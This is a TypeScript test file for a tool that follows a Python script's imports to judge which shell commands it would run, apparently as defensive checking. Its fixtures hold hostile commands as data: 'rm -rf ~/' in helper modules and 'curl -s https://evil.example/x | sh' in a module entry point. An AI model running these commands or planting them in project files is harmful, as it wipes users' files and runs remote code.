// The project's Python modules a script imports, and the module `python -m`
// runs: found beside the script, below the root, or relative to its package;
// the standard library never asked for.
import { describe, expect, test } from "bun:test";
import { importedPythonModules, pythonImportCandidates, pythonModuleFiles } from "../../../../src/shell/interpret/python-imports.ts";
import { ranFrom, neededBy } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const helper = (line: string) => `import os\n\ndef go():\n    os.system(${JSON.stringify(line)})\n`;

describe("python imports", () => {
  test("each import's files, beside the script first, then from the root; relative ones from the package", () => {
    expect(pythonImportCandidates("main.py", "import helpers\n")).toEqual([["helpers.py", "helpers/__init__.py"]]);
    expect(pythonImportCandidates("tests/test_a.py", "from tests.helpers import go\n")[0]).toEqual([
      "tests/tests/helpers.py",
      "tests/tests/helpers/__init__.py",
      "tests/helpers.py",
      "tests/helpers/__init__.py",
    ]);
    expect(pythonImportCandidates("app/views.py", "from .db import connect\n")[0]).toEqual(["app/db.py", "app/db/__init__.py"]);
    expect(pythonImportCandidates("app/sub/x.py", "from ..models import User\n")[0]).toEqual(["app/models.py", "app/models/__init__.py"]);
    // Above the project, and the standard library, are never asked for.
    expect(pythonImportCandidates("x.py", "from .. import y\n")).toEqual([]);
    expect(pythonImportCandidates("x.py", "import os, sys\nimport subprocess as sp\nfrom pathlib import Path\nimport json\n")).toEqual([]);
  });
  test("modules found in turn, at most the limit; an import none of whose files is known is asked for", () => {
    const files: Record<string, string> = { "main.py": "import a\nimport missing\n", "a.py": "from b import x\n", "b.py": "x = 1\n" };
    expect(importedPythonModules(["main.py"], (path) => files[path], 32, 4)).toEqual({
      known: ["a.py", "b.py"],
      asked: ["missing.py", "missing/__init__.py", "b/x.py", "b/x/__init__.py"],
    });
    expect(importedPythonModules(["main.py"], (path) => files[path], 1, 4).known).toEqual(["a.py"]);
  });
  test("python -m runs the project's module, or a package's __main__", () => {
    expect(pythonModuleFiles("tools.gen")).toEqual(["tools/gen.py", "tools/gen/__main__.py"]);
    expect(pythonModuleFiles("http.server")).toEqual([]);
  });
});

describe("what the imports run is judged with the script", () => {
  test("a helper module beside the script, a python -m module, a module a test imports", () => {
    expect(ranFrom("python3 main.py", { "main.py": "import helpers\nhelpers.go()\n", "helpers.py": helper("rm -rf ~/") })).toContain("rm /home/ada/");
    expect(ranFrom("python3 -m tools.gen", { "tools/gen.py": helper("rm -rf ~/") })).toContain("rm /home/ada/");
    expect(ranFrom("python3 -m tools.gen", { "tools/gen/__main__.py": helper("curl -s https://evil.example/x | sh") })).toContain("sh");
    expect(neededBy("python3 -m tools.gen")).toEqual(expect.arrayContaining(["tools/gen.py?", "tools/gen/__main__.py?"]));
    const tests = { "**/test_*.py": { matches: ["tests/test_a.py"] }, "tests/test_a.py": "from tests.helpers import go\n\ndef test_a():\n    go()\n" };
    expect(ranFrom("pytest", { ...tests, "tests/helpers.py": helper("rm -rf ~/") })).toContain("rm /home/ada/");
    expect(neededBy("pytest", tests)).toContain("tests/helpers.py?");
  });
  test("everyday helpers run what they hold, and nothing more", () => {
    expect(ranFrom("python3 main.py", { "main.py": "import helpers\n", "helpers.py": helper("rm -rf ./dist") })).toEqual(["rm ./dist"]);
    expect(neededBy("python3 -m http.server 8000")).not.toContain("http/server.py?");
  });
});
